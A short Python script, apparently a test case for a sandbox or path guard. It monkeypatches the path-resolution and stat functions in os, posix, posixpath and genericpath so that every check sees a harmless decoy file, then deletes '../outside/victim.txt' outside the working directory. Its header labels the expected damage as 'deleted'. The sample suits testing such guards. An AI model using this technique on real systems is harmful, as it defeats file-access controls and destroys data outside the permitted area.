# Every function by which a path could be resolved answers with a harmless one.
# damage: deleted
import genericpath
import os
import posix
import posixpath
import stat

unlink = posix.unlink
here = os.getcwd() + "/made.txt"
open(here, "w").close()
status = os.stat(here)
for module in (os, posix, posixpath, genericpath):
    for name in ("realpath", "abspath", "normpath", "join", "fspath", "fsdecode", "readlink", "getcwd", "expanduser"):
        if hasattr(module, name):
            setattr(module, name, lambda *arguments, **options: here)
    for name in ("stat", "lstat", "fstat"):
        if hasattr(module, name):
            setattr(module, name, lambda *arguments, **options: status)
unlink("../outside/victim.txt")
